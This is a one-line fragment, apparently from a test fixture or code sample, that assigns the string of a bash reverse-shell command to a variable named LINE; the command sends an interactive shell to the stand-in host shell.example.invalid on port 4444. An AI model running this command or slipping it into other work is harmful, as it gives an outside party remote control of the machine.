LINE = "bash -i >& /dev/tcp/shell.example.invalid/4444 0>&1"
